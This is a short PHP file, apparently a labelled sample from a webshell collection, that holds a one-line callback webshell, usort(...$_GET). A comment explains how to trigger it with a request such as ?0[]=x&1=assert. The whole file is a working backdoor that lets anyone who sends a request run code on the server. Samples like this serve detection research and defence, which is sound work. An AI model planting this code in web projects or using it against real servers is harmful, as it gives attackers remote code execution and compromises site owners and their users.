<?php
// Family: webshell/callback
// Style: argument unpacking of the whole query string into a sort function
// Trait: usort(...$_GET) takes the array and the comparison function from the request (?0[]=x&1=assert)
usort(...$_GET);
